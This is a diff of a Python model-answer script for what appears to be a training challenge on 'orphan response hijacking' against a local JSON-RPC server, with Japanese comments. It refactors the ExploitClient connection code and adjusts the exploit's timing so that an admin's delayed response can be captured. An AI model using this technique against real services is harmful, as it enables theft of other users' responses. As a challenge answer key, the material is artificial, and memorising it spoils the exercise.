@@ -22,66 +22,68 @@ Challenge 1: Orphan Response Hijacking - 模範解答
 - 遅延を任意に指定できる（タイミング攻撃が容易）
 """
 
-import json
-import socket
 import time
 import threading
-from typing import Any, Dict, Optional
+from collections import deque
+from concurrent.futures import Future, TimeoutError as FutureTimeoutError
+from typing import Any, Deque, Dict, Optional
+
+from tcp_client import TcpJsonRpcConnection
 
 
 class ExploitClient:
-    """攻撃用クライアント"""
+    """
+    攻撃用クライアント
+
+    通信は tcp_client.TcpJsonRpcConnection に任せる
+    （改行区切りのフレーム分割と、id によるレスポンスの振り分け）。
+    """
 
     def __init__(self, host: str = "127.0.0.1", port: int = 9999):
         self.host = host
         self.port = port
-        self.sock: Optional[socket.socket] = None
-        self._next_id = 1
+        self.conn: Optional[TcpJsonRpcConnection] = None
+        # send_request で送ってまだ recv_response で受け取っていない応答（送信順）
+        self._unread: Deque[Future] = deque()
 
     def connect(self):
         """サーバーに接続"""
-        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-        self.sock.connect((self.host, self.port))
+        self.conn = TcpJsonRpcConnection(self.host, self.port)
+        self.conn.connect()
         print(f"[*] サーバーに接続: {self.host}:{self.port}")
 
     def close(self):
         """接続を閉じる"""
-        if self.sock:
-            self.sock.close()
-            self.sock = None
+        if self.conn:
+            self.conn.close()
+            self.conn = None
 
     def send_request(self, method: str, params: Dict[str, Any] = None) -> int:
         """リクエストを送信してIDを返す"""
-        req_id = self._next_id
-        self._next_id += 1
-
-        request = {
-            "jsonrpc": "2.0",
-            "id": req_id,
-            "method": method,
-            "params": params or {}
-        }
-
-        message = json.dumps(request) + "\n"
-        self.sock.sendall(message.encode("utf-8"))
+        req_id, future = self.conn.send_request(method, params)
+        self._unread.append(future)
         return req_id
 
     def recv_response(self, timeout: float = 5.0) -> Optional[Dict[str, Any]]:
-        """レスポンスを受信"""
-        self.sock.settimeout(timeout)
+        """send_request で送った中で最も古いリクエストのレスポンスを受信"""
+        if not self._unread:
+            return None
         try:
-            data = self.sock.recv(4096)
-            if data:
-                return json.loads(data.decode("utf-8").strip())
-        except socket.timeout:
+            resp = self._unread[0].result(timeout)
+        except FutureTimeoutError:
             return None
-        return None
+        except ConnectionError:
+            resp = None
+        self._unread.popleft()
+        return resp
 
     def request(self, method: str, params: Dict[str, Any] = None,
                 timeout: float = 5.0) -> Optional[Dict[str, Any]]:
         """リクエストを送信してレスポンスを受信"""
-        self.send_request(method, params)
-        return self.recv_response(timeout)
+        try:
+            return self.conn.request(method, params, timeout)
+        except (FutureTimeoutError, ConnectionError):
+            return None
 
 
 def simulate_admin_activity(delay_before: float = 0.5):
@@ -179,8 +181,8 @@ def exploit():
     print()
     print("[*] ステップ3: orphan が発生するのを待機中...")
 
-    # 【解答】admin の遅延（2秒）より長く待つ
-    wait_time = 2.5
+    # 【解答】admin の開始（0.5秒後）+ 遅延（2秒）より長く待つ
+    wait_time = 3.0
     time.sleep(wait_time)
 
     # ステップ4: orphan response を取得